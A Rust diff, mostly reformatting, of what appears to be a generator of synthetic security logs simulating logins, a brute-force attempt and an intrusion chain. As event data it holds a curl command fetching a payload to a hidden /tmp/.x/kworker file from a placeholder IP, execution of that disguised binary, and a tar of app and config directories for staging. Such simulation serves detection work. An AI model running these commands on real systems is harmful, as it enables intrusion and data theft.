@@ -89,7 +89,11 @@ impl Telling {
     fn day_to_day(&mut self, begin: u64) {
         let user = *self.random.pick(&PEOPLE);
         let host = *self.random.pick(&HOSTS);
-        let address = format!("10.1.{}.{}", self.random.between(0, 3), self.random.between(2, 250));
+        let address = format!(
+            "10.1.{}.{}",
+            self.random.between(0, 3),
+            self.random.between(2, 250)
+        );
         let contact = self.contact();
         let mut login = Login {
             step: &contact,
@@ -188,7 +192,7 @@ impl Telling {
         };
         let mut at = begin;
         for _ in 0..48 {
-            login.user = self.random.pick(&GUESSED);
+            login.user = *self.random.pick(&GUESSED);
             self.plan(at, login.report());
             at += self.random.between(2 * SECOND, 5 * SECOND);
         }
@@ -200,12 +204,20 @@ impl Telling {
 
         let step = self.process_step(&shell);
         let download = "curl -so /tmp/.x/kworker http://203.0.113.66/k";
-        self.run(&step, ("/usr/bin/curl", download, "/bin/bash"), at + 40 * SECOND);
+        self.run(
+            &step,
+            ("/usr/bin/curl", download, "/bin/bash"),
+            at + 40 * SECOND,
+        );
         self.flow(&step, VICTIM, (ATTACKER, 80), 420, at + 41 * SECOND);
 
         let worker = self.process_step(&shell);
         let image = "/tmp/.x/kworker";
-        self.run(&worker, (image, "/tmp/.x/kworker -q", "/bin/bash"), at + 75 * SECOND);
+        self.run(
+            &worker,
+            (image, "/tmp/.x/kworker -q", "/bin/bash"),
+            at + 75 * SECOND,
+        );
 
         let step = self.process_step(&worker);
         let pack = "tar czf /tmp/.x/s.tgz /srv/app /etc/app";
@@ -235,7 +247,14 @@ impl Telling {
         step
     }
 
-    fn process_below(&mut self, parent: &Step, image: &str, host: &str, user: &str, at: u64) -> Step {
+    fn process_below(
+        &mut self,
+        parent: &Step,
+        image: &str,
+        host: &str,
+        user: &str,
+        at: u64,
+    ) -> Step {
         let step = self.process_step(parent);
         let process = Process {
             step: &step,
